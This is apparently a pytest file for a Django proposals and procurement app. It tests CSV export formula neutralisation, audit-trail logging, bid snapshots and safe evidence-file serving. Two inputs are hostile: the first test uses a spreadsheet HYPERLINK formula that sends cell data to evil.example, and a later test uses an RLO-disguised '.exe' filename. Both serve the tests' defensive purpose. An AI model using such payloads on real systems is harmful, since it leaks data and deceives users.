"""Issue 17: the proposals CSV export neutralises formulas (item 4); the audit trail is complete (item 3)."""

from __future__ import annotations

import csv
import datetime as dt
import importlib
import io
import json
import os
import subprocess
import sys

import pytest
from auditlog.models import LogEntry
from auditlog.registry import auditlog
from django.apps import apps
from django.core.files.uploadedfile import SimpleUploadedFile
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from proposals import services
from proposals.models import Engagement, SealedReadLog, solution_snapshot
from tests.factories import proposal_factories as pf
from tests.proposals.conftest import AFTER
from tests.proposals.helpers import complete_evaluation


def test_proposals_export_neutralises_a_firm_controlled_formula(world, clock, client_as, alice, firm):
    firm.name_zh = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    firm.save()
    clock(AFTER)
    response = client_as(alice).get(f"/county/scenarios/{world.scenario.pk}/export.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    firms = {row[1] for row in rows[1:]}
    assert "'" + firm.name_zh in firms
    assert not any(cell.startswith(("=", "+", "@")) for row in rows[1:] for cell in row)


# ---------------------------------------------------------------- item 3: the audit trail


def test_reading_the_trail_is_a_sealed_read_on_the_page_and_the_api(world, clock, client_as, api_as, alice, dave):
    services.proposal_update(proposal=world.dave_proposal, actor=dave, approach="REVISED-SECRET")
    clock(AFTER)
    assert client_as(alice).get(f"/county/scenarios/{world.scenario.pk}/trail/").status_code == 200
    response = api_as(alice).get(f"/api/v1/proposals/trail/?scenario={world.scenario.pk}")
    assert response.status_code == 200
    logs = sorted((log.via, log.proposal_id) for log in SealedReadLog.objects.filter(user=alice))
    both = sorted([world.dave_proposal.pk, world.erin_proposal.pk])
    assert logs == [("api-trail", pk) for pk in both] + [("trail", pk) for pk in both]


def test_trail_api_names_the_actor_or_says_null(world, clock, api_as, alice, dave):
    services.proposal_update(proposal=world.dave_proposal, actor=dave, approach="REVISED-SECRET")
    clock(AFTER)
    entries = api_as(alice).get(f"/api/v1/proposals/trail/?scenario={world.scenario.pk}").json()["results"]
    actors = {e["actor"] for e in entries}
    assert str(dave) in actors
    assert all(a is None or (isinstance(a, str) and "method-wrapper" not in a) for a in actors)


@pytest.mark.parametrize("auth", ["token", "session"])
def test_api_writes_are_attributed_to_the_token_or_session_user(auth, client, dave, firm):
    api = APIClient()
    if auth == "token":
        api.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=dave).key}")
    else:
        api.force_login(dave)
    solution = pf.solution(firm=firm, title="旧标题")
    response = api.patch(f"/api/v1/solutions/{solution.pk}/", {"title": "新标题"}, format="json")
    assert response.status_code == 200, response.content
    entry = LogEntry.objects.get_for_object(solution).filter(action=LogEntry.Action.UPDATE).get()
    assert entry.actor == dave
    assert entry.changes_dict["title"] == ["旧标题", "新标题"]


@pytest.mark.parametrize(
    "model",
    [
        "directory.Organization",
        "directory.Membership",
        "catalog.Solution",
        "catalog.Scenario",
        "talent.Enrolment",
        "talent.Certificate",
        "talent.Exchange",
        "proposals.Proposal",
        "proposals.Engagement",
    ],
)
def test_every_model_that_matters_is_audited(model):
    assert auditlog.contains(apps.get_model(model))


def test_organization_changes_are_in_the_trail_with_the_actor_and_masked_contacts(alice, county):
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=alice).key}")
    data = {"description": "新的简介", "contact_phone": "13800000000"}
    response = api.patch(f"/api/v1/organizations/{county.pk}/", data, format="json")
    assert response.status_code == 200, response.content
    entry = LogEntry.objects.get_for_object(county).filter(action=LogEntry.Action.UPDATE).latest("timestamp")
    assert entry.actor == alice
    assert entry.changes_dict["description"][1] == "新的简介"
    assert "13800000000" not in json.dumps(entry.changes_dict)


# ---------------------------------------------------------------- item 5: the bid cites the solutions as submitted


def test_retitling_or_archiving_a_solution_after_the_deadline_does_not_change_the_bid(
    world, clock, client_as, api_as, alice, dave
):
    solution = world.dave_proposal.solutions.get()
    services.proposal_update(proposal=world.dave_proposal, actor=dave, approach="修订")  # a revision with content
    clock(AFTER)
    solution.title = "改名后的方案"
    solution.summary = "CHANGED-AFTER-DEADLINE"
    solution.status = "archived"
    solution.save()
    page = client_as(alice).get(f"/proposals/{world.dave_proposal.pk}/").content.decode()
    assert "云途会诊平台" in page and "改名后的方案" not in page
    body = api_as(alice).get(f"/api/v1/proposals/{world.dave_proposal.pk}/").json()
    assert [(s["title"], s["status"]) for s in body["cited_solutions"]] == [("云途会诊平台", "published")]
    assert "CHANGED-AFTER-DEADLINE" not in str(body)


def test_migration_fills_old_snapshots_with_the_solutions_content(world, dave):
    migration = importlib.import_module("proposals.migrations.0002_revision_snapshots_cite_solution_content")
    services.proposal_update(proposal=world.dave_proposal, actor=dave, approach="修订")
    revision = world.dave_proposal.revisions.order_by("number").last()
    solution = world.dave_proposal.solutions.get()
    revision.snapshot["solutions"] = [solution.pk]  # as the old code stored it
    revision.save()
    migration.forwards(apps, None)
    revision.refresh_from_db()
    assert revision.snapshot["solutions"] == [solution_snapshot(solution)]


# ---------------------------------------------------------------- item 7: files


PDF = b"%PDF-1.7\n%\xe2\xe3\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


def test_milestone_evidence_has_a_random_name_and_is_served_only_to_readers(
    world, clock, client_as, alice, dave, erin, charlie
):
    clock(AFTER)
    complete_evaluation(world.scenario, alice, {world.dave_proposal.pk: [9, 9, 9], world.erin_proposal.pk: [5, 5, 5]})
    award = services.award_decide(
        scenario=world.scenario, actor=alice, proposals=[world.dave_proposal], reason="第一", standstill=0
    )
    services.award_finalise(award=award, actor=alice)
    engagement = Engagement.objects.get()
    milestone = services.milestone_add(engagement=engagement, actor=dave, title="上线", due_date=dt.date(2026, 12, 20))
    services.milestone_done(milestone=milestone, actor=dave, evidence=SimpleUploadedFile("验收\u202efdp.exe", PDF))
    milestone.refresh_from_db()
    assert not milestone.evidence.name.startswith("proposals/evidence/evidence")  # not guessable
    assert "\u202e" not in milestone.evidence_name and milestone.evidence_name.endswith(".pdf")
    url = f"/engagements/{engagement.pk}/milestones/{milestone.pk}/evidence/"
    response = client_as(alice).get(url)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert "\u202e" not in response["Content-Disposition"] and ".exe" not in response["Content-Disposition"]
    assert b"".join(response.streaming_content) == PDF
    for outsider in (erin, charlie, None):
        assert client_as(outsider).get(url).status_code in (302, 404)


def test_no_media_route_even_in_debug_mode():
    result = subprocess.run(
        [
            sys.executable,
            "manage.py",
            "shell",
            "-c",
            "from django.urls import resolve, Resolver404\n"
            "try:\n resolve('/media/proposals/evidence/evidence.pdf'); print('SERVED')\n"
            "except Resolver404: print('NOT-FOUND')",
        ],
        capture_output=True,
        text=True,
        env={**os.environ, "DJANGO_DEBUG": "true", "DJANGO_SETTINGS_MODULE": "config.settings.base"},
        check=False,
    )
    assert result.stdout.strip().splitlines()[-1] == "NOT-FOUND", result.stderr
